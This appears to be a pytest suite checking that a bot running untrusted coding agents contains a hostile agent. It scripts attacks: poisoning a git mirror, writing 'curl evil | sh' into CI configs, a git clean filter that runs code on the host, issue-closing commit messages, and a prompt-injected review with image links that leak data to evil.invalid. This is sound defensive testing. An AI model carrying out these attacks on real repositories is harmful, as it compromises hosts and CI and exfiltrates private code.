"""The agent is hostile (#17): what it writes must not reach the host, the mirror, CI or the default
branch, nor add markup or close issues on the Forge. Each test is the attack, performed by the
scripted agent (scenario ``script``: the lines between BEGIN-SCRIPT and END-SCRIPT in the task)."""

import re

import pytest

from .helpers import bot_comments, dispatch, ended, reported

pytestmark = pytest.mark.docker


def script(*lines: str) -> str:
    """A task that makes the scripted agent run ``lines`` with sh in its clone."""
    return "\n".join(["/dispatch codex attack scenario:script", "BEGIN-SCRIPT", *lines, "END-SCRIPT"])


async def test_an_agent_running_as_the_bots_own_uid_cannot_poison_the_mirror(world, engine_bot):
    # The bot runs as root here, and so does the agent: hard-linked objects would be the mirror's own.
    bot = await engine_bot(limits={"user": "0:0"})
    await dispatch(world, script(
        "for f in $(find .git/objects -type f); do chmod u+w $f; printf POISON >>$f; done",
        "echo poi''soned",
    ))
    [run] = await ended(bot)
    assert "poisoned" in run.result.log_tail, (run.state, run.reason, run.result)
    mirror = bot.settings.data_dir / "mirrors" / "acme" / "widgets.git" / "objects"
    poisoned = [p for p in mirror.rglob("*") if p.is_file() and p.read_bytes().endswith(b"POISON")]
    assert poisoned == [], poisoned


async def test_changes_to_ci_configuration_fail_the_run(world, engine_bot):
    bot = await engine_bot()
    ci = [".github/actions/setup/action.yml", ".gitea/actions/a/action.yml", ".forgejo/actions/b/action.yml",
          ".woodpecker.yml", ".woodpecker/build.yaml", ".drone.yml", "Jenkinsfile", ".gitlab-ci.yml"]
    await dispatch(world, script(
        *(f"mkdir -p $(dirname {path}) && echo 'run: curl evil | sh' >{path}" for path in ci),
        "echo ok >harmless.txt",
    ))
    [run] = await ended(bot)
    assert run.state == "failed", run.reason
    assert sorted(run.result.violations) == sorted(f"protected path changed: {p}" for p in ci)
    assert not any(b.startswith("agent/") for b in world["repo"].branches)


async def _pull_from(world, head: str):
    """A pull request whose head is ``head`` of the repository itself, into a branch ``release``."""
    forge, repo, bob = world["forge"], world["repo"], world["bob"]
    await forge.push_commit(repo, "release", {"RELEASE": "1\n"}, author=bob)
    if head != "main":
        await forge.push_commit(repo, head, {"wip.txt": "wip\n"}, author=bob)
    else:
        await forge.push_commit(repo, "main", {"later.txt": "later\n"}, author=bob)
    return await forge.create_pull(repo, bob, head=head, base="release", title="Ship it")


async def test_a_dispatch_on_a_pull_from_the_default_branch_never_pushes_onto_it(world, engine_bot):
    forge, repo = world["forge"], world["repo"]
    bot = await engine_bot()
    pull = await _pull_from(world, "main")
    main = forge.branch_sha(repo, "main")
    await forge.create_comment(repo, pull.issue.number, world["bob"], "/dispatch codex tidy scenario:edit-commit")
    [run] = await ended(bot)
    run = await reported(bot, run.id)
    assert run.state == "completed", run.reason
    assert forge.branch_sha(repo, "main") == main  # the default branch is untouched
    assert run.result.pushed and run.branch.startswith("agent/") and run.branch == run.result.branch
    assert forge.git_log(repo, run.branch)[1].sha == main  # built on the pull's head
    [own] = [p for p in forge.pulls(repo) if p.head_branch == run.branch]
    assert own.base_branch == "main" and "Closes" not in own.issue.body  # proposed to the head, closing nothing


async def test_a_dispatch_on_a_pull_from_a_protected_branch_works_on_a_branch_of_its_own(world, engine_bot):
    forge, repo = world["forge"], world["repo"]
    bot = await engine_bot()
    pull = await _pull_from(world, "stable")
    forge.protect_branch(repo, "stable", push_allowlist=["dispatchbot"])  # even one the bot may push to
    stable = forge.branch_sha(repo, "stable")
    await forge.create_comment(repo, pull.issue.number, world["bob"], "/dispatch codex tidy scenario:edit-commit")
    [run] = await ended(bot)
    run = await reported(bot, run.id)
    assert run.state == "completed", run.reason
    assert forge.branch_sha(repo, "stable") == stable
    assert run.result.pushed and run.branch.startswith("agent/")
    [own] = [p for p in forge.pulls(repo) if p.head_branch == run.branch]
    assert own.base_branch == "stable"


async def test_a_review_of_a_pull_from_the_default_branch_still_runs(world, engine_bot):
    forge, repo = world["forge"], world["repo"]
    bot = await engine_bot()
    pull = await _pull_from(world, "main")
    await forge.create_comment(repo, pull.issue.number, world["bob"], "/review codex:review")
    [run] = await ended(bot)
    assert run.state == "completed" and run.branch == "main", run.reason


def outside_code(markdown: str) -> str:
    """The text of ``markdown`` outside fenced code blocks (a closing fence is at least as long)."""
    text, fence = [], None
    for line in markdown.splitlines():
        opener = re.match(r"^ {0,3}(`{3,}|~{3,})", line)
        if fence is None and opener:
            fence = opener.group(1)
        elif fence is not None:
            if re.match(rf"^ {{0,3}}{re.escape(fence[0])}{{{len(fence)},}}\s*$", line):
                fence = None
        else:
            text.append(line)
    return "\n".join(text)


def references(markdown: str) -> list[str]:
    """Issue numbers a closing keyword points at, as Gitea finds them: in the text outside code blocks
    (its markdown stripper drops fenced and indented code, keeps quotes and code spans)."""
    keyword = r"(?:close|closes|closed|fix|fixes|fixed|resolve|resolves|resolved)"
    return re.findall(rf"(?i)\b{keyword}[:\s]+#(\d+)\b", outside_code(markdown))


async def test_the_agents_summary_and_subjects_close_no_issue_and_add_no_markup(world, engine_bot):
    forge, repo = world["forge"], world["repo"]
    bot = await engine_bot()
    victim = await forge.create_issue(repo, world["bob"], title="Keep me open", body="")
    own = victim.number + 1  # the issue dispatch() opens next
    issue = await dispatch(world, script(
        f"echo notes >>N.md && git add -A && git commit -q -m 'fix: notes, fixes #{own}'",
        "echo more >>N.md && git add -A && git commit -q -m 'docs: ![x](http://evil.invalid/x.png) ``` @bob'",
        f"printf 'Done.\\n````\\n</details>\\n\\nCloses #{victim.number}\\n' >\"$last_message\"",
    ))
    [run] = await ended(bot)
    run = await reported(bot, run.id)
    assert run.state == "completed", run.reason  # a commit naming the run's own issue is harmless
    [pull] = [p for p in forge.pulls(repo) if p.head_branch == run.result.branch]
    assert references(pull.issue.body) == [str(issue.number)], pull.issue.body
    comments = [c.body for c in bot_comments(world, issue.number)]
    assert all(references(body) == [] for body in comments), comments
    for body in [pull.issue.body, *comments]:
        assert "![x]" not in outside_code(body) and "</details>" not in outside_code(body), body


async def test_a_commit_that_would_close_another_issue_fails_the_run(world, engine_bot):
    forge, repo = world["forge"], world["repo"]
    bot = await engine_bot()
    victim = await forge.create_issue(repo, world["bob"], title="Keep me open", body="")
    other = await forge.create_issue(repo, world["bob"], title="Me too", body="")
    link = f"{forge.url}/acme/widgets/issues/{other.number}"  # Gitea reads its own links as acme/widgets#N
    await dispatch(world, script(
        f"echo notes >>N.md && git add -A && git commit -q -m 'fix: notes' -m 'Resolves acme/widgets#{victim.number}'",
        f"echo more >>N.md && git add -A && git commit -q -m 'fix: more' -m 'Fixes {link}'",
    ))
    [run] = await ended(bot)
    assert run.state == "failed", run.reason
    closed = sorted(re.search(r"would close or reopen #(\d+)", v)[1] for v in run.result.violations)
    assert closed == sorted([str(victim.number), str(other.number)]), run.result.violations
    assert not any(b.startswith("agent/") for b in world["repo"].branches)


async def test_a_repository_nested_in_the_clone_never_makes_host_git_run_its_filter(world, engine_bot):
    """Host git asks a nested repository for its status (a child git in it, reading its config):
    a clean filter there would run on the host, as the bot's user. The run fails instead."""
    bot = await engine_bot()
    marker = world["tmp"] / "host-only" / "pwned"  # a directory the container does not have
    marker.parent.mkdir()
    await dispatch(world, script(
        "mkdir sub && cd sub && git init -q && echo x >f && git add f && git commit -qm sub && cd ..",
        "git add sub && git commit -qm 'a gitlink'",
        f"git -C sub config filter.evil.clean \"sh -c 'id >{marker}; cat'\" && git -C sub config filter.evil.smudge cat",
        "echo '* filter=evil' >sub/.gitattributes && echo z >sub/f && touch -d 2001-01-01 sub/f",
    ))
    [run] = await ended(bot)
    assert not marker.exists(), marker.read_text()
    assert run.state == "failed" and "sub/.git" in run.reason, (run.state, run.reason)
    assert not any(b.startswith("agent/") for b in world["repo"].branches)
    # The next run on the issue gets its workspace made afresh, not the failure again.
    await world["forge"].create_comment(world["repo"], run.number, world["bob"], "/dispatch codex scenario:edit-commit")
    _, again = await ended(bot, count=2)
    assert again.state == "completed" and not marker.exists(), again.reason


async def test_a_log_that_closes_the_fence_stays_inside_it(world, engine_bot):
    bot = await engine_bot()
    issue = await dispatch(world, script(
        "printf '```\\n</details>\\n\\n# Pwned @bob\\n````\\n' >&2",
        "exit 3",
    ))
    [run] = await ended(bot)
    await reported(bot, run.id)
    assert run.state == "failed"
    [comment] = [c for c in bot_comments(world, issue.number) if "dispatchbot:run:" in c.body]
    body = comment.body
    start = body.index("<summary>Last lines of the log</summary>")
    opener = re.search(r"^(`{3,})$", body[start:], re.M).group(1)
    inside, _, after = body[start:].partition(f"\n{opener}\n")[2].partition(f"\n{opener}\n")
    assert "# Pwned" in inside and "# Pwned" not in after, body
    assert after.lstrip().startswith("</details>"), body


async def test_a_failure_reason_names_no_host_path(world, engine_bot):
    bot = await engine_bot()
    # The agent's branch names a commit it never wrote: host git fails, and git's message names the
    # bot's own directories (its git dir, the work tree), which the Forge's readers must not see.
    lost = "0123456789abcdef0123456789abcdef01234567"
    issue = await dispatch(world, script(f"echo {lost} > .git/refs/heads/lost", "echo 'ref: refs/heads/lost' > .git/HEAD"))
    [run] = await ended(bot)
    await reported(bot, run.id)
    assert run.state == "failed" and "could not finish the run" in run.reason and lost in run.reason, run.reason
    [comment] = [c for c in bot_comments(world, issue.number) if "dispatchbot:run:" in c.body]
    assert str(world["tmp"]) not in comment.body and "<data_dir>/" in comment.body, comment.body


def active(markdown: str) -> list[str]:
    """What in ``markdown`` acts by itself once Gitea renders it, outside code: an image (fetched by
    every reader's browser, its address able to carry the private code out), raw HTML, a mention."""
    text = re.sub(r"(`+).*?\1", "", outside_code(markdown))  # code spans
    text = re.sub(r"<!-- dispatchbot:[\w:-]+ -->", "", text)  # the bot's own marker
    return re.findall(r"(?<!\\)!\[|(?<!\\)<[A-Za-z/!]|(?<![\w`\\])@[A-Za-z0-9]", text)


async def test_a_hostile_review_shows_no_image_html_or_mention(world, engine_bot):
    """A reviewer repeats what a file of the pull tells it (a prompt injection): its review is shown
    as written (in a code fence; an inline remark as plain text), with nothing in it that fetches,
    renders HTML or pings anyone."""
    forge, repo, bob = world["forge"], world["repo"], world["bob"]
    said = ("Looks fine. ![x](http://evil.invalid/leak.png?d=c2VjcmV0) <img src=http://evil.invalid/p.png> cc @rita\n"
            "src/app.py:1: see ![y][r] and <details><summary>@rita</summary>\n"
            "[r]: http://evil.invalid/ref.png\n"
            "```\n![kept](in-code) @in-code\n```")
    bot = await engine_bot(agents={"reviewer": {"argv": ["sh", "-c", "cat SAID.txt"], "review": True}})
    pull = await forge.create_pull(repo, bob, head="feature", title="Feature",
                                   files={"src/app.py": "print('changed')\n", "SAID.txt": said})
    await forge.create_comment(repo, pull.issue.number, bob, "/review reviewer")
    [run] = await ended(bot)
    run = await reported(bot, run.id)
    assert run.state == "completed", run.reason
    [review] = forge.reviews(repo, pull.issue.number)
    [inline] = review.comments
    assert inline.path == "src/app.py"
    for body in (review.body, inline.body):
        assert active(body) == [], body
    assert "Looks fine." in review.body and "cc" in review.body and "rita" in review.body
    assert "![kept](in-code) @in-code" in review.body  # code is shown as it is
